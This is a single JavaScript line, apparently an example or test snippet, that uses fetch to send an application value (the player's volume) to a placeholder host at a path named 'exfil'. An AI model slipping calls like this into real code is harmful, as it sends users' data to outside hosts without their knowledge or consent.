fetch("https://example.com/exfil?v=" + app.player.volume);
